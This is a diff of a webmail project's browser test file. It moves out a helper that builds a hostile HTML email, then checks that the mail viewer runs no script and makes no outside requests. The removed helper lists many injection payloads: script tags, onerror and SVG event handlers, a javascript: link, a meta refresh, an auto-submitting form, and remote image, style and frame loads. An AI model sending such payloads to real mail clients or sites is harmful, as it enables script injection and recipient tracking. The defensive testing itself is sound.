@@ -3,6 +3,7 @@ import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { connect } from "node:net";
 import { after, before, test } from "node:test";
+import { attack, elsewhere } from "./attack.mjs";
 import { SIZES, serious, shot, startBrowser, startServer } from "./rig.mjs";
 
 let server, browser;
@@ -168,30 +169,8 @@ test("check 22: compose with a file, receive, reply, thread shown, search, move,
   await ben.close();
 });
 
-/** A letter that tries what letters try; each try asks for something of its own at `host`, or says so in the title. */
-const attack = (host) => `<!doctype html><html><head><title>News</title>
-<base href="http://${host}/base/"><meta http-equiv="refresh" content="0;url=http://${host}/refresh">
-<link rel="stylesheet" href="http://${host}/link.css"><link rel="preload" as="image" href="http://${host}/preload.png">
-<style>@import "http://${host}/import.css"; body { background: url(http://${host}/style.png) }</style></head>
-<body onload="top.document.title='onload'" background="http://${host}/body.png">
-<script>top.document.title='script'; new Image().src='http://${host}/script.png'</script>
-<script src="http://${host}/script.js"></script>
-<img src="http://${host}/remote.png"><img src="x" onerror="top.document.title='onerror'; fetch('http://${host}/fetch')">
-<img srcset="http://${host}/srcset.png 1x"><p style="background:url(http://${host}/inline.png)">News of today</p>
-<svg onload="top.document.title='svg'"><animate onbegin="top.document.title='begin'" attributeName="x" dur="1s"/>
-<image href="http://${host}/svg.png"/><script>top.document.title='svg script'</script></svg>
-<form id="f" action="http://${host}/form"><input name="p" autofocus onfocus="f.submit()"><button>Go</button></form>
-<a id="js" href="javascript:top.document.title='link'">a link</a> <a href="http://${host}/linked">another</a>
-<iframe src="http://${host}/frame"></iframe><object data="http://${host}/object"></object>
-<video src="http://${host}/video.mp4" poster="http://${host}/poster.png"></video>
-<a ping="http://${host}/ping" href="relative">third</a></body></html>`;
-
 test("check 15: HTML that means harm runs nothing and asks for nothing, and frame and policy alone hold too", async () => {
-  // Whatever comes here came out of a letter.
-  const asked = [];
-  const elsewhere = createServer((request, response) => { asked.push(request.url); response.end(); });
-  await new Promise((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
-  const host = `127.0.0.1:${elsewhere.address().port}`;
+  const { asked, host, close: quiet } = await elsewhere();
   const letter = `From: Eve <eve@evil.example>\r\nSubject: News\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${attack(host).replace(/\n/g, "\r\n")}`;
   await deliver("dan@hamburger.edu", letter);
   const { context, page, close } = await visit("dan@hamburger.edu");
@@ -228,7 +207,7 @@ test("check 15: HTML that means harm runs nothing and asks for nothing, and fram
   await frame.getByRole("button", { name: "Go" }).click({ noWaitAfter: true });
   await looked("with the sanitiser bypassed, and pressed");
   await close();
-  elsewhere.close();
+  quiet();
 });
 
 test("who has not signed in sees nothing, and pages of other origins do nothing", async () => {
